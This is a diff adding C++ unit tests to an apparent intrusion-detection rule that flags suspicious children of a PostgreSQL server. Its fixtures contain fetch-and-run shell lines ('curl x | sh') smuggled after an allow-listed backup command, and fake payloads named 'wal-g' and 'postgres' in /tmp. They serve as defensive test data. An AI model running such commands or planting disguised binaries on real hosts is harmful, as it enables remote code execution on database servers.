@@ -58,6 +58,44 @@ TEST(DatabaseChild, OwnProgramsAndAllowedArchiveCommandsAreSilent) {
   EXPECT_TRUE(of_rule(f, kRule).empty()) << of_rule(f, kRule).front().title;
 }
 
+TEST(DatabaseChild, AllowListCannotBeBorrowed) {
+  const auto f = of_rule(
+      run(snapshot(
+          {proc(200, 1, "postgres", kPg),
+           proc(201, 200, "sh", "/usr/bin/dash", {"sh", "-c", "wal-g wal-push x; curl x | sh"}),
+           proc(202, 201, "curl", "/usr/bin/curl"),
+           proc(203, 200, "wal-g", "/tmp/wal-g"),  // a payload named like the tool
+           proc(204, 200, "sh", "/usr/bin/dash", {"sh", "-c", "wal-g wal-push y"}),
+           proc(205, 204, "sh", "/usr/bin/dash", {"sh", "-c", "curl z | sh"})})),
+      kRule);
+  std::vector<int> pids;
+  for (const auto& x : f) pids.push_back(pid_of(x));
+  EXPECT_EQ(pids, (std::vector<int>{201, 202, 203, 205}));
+}
+
+TEST(DatabaseChild, PayloadNamedPostgresIsNoServer) {
+  const auto f = of_rule(run(snapshot({proc(200, 1, "postgres", kPg),
+                                       deleted(proc(210, 200, "postgres", "/tmp/postgres")),
+                                       proc(211, 210, "sh", "/usr/bin/dash")})),
+                         kRule);
+  ASSERT_EQ(f.size(), 2u);
+  EXPECT_EQ(pid_of(f[0]), 210);
+  EXPECT_EQ(pid_of(f[1]), 211);
+  EXPECT_EQ(f[1].evidence["database"]["pid"], 200);
+}
+
+TEST(DatabaseChild, UnreadableExeFallsBackOnNameOnlyWhenDenied) {
+  auto denied = proc(221, 200, "postgres", "");
+  denied.exe_state = ExeState::unknown;
+  denied.exe_error = "EACCES";
+  auto too_long = proc(222, 200, "postgres", "");
+  too_long.exe_state = ExeState::unknown;
+  too_long.exe_error = "ENAMETOOLONG";
+  const auto f = of_rule(run(snapshot({proc(200, 1, "postgres", kPg), denied, too_long})), kRule);
+  ASSERT_EQ(f.size(), 1u);
+  EXPECT_EQ(pid_of(f[0]), 222);
+}
+
 TEST(DatabaseChild, AllowListIsConfigurable) {
   HuntConfig c;
   c.database_child_allow = {"cp"};
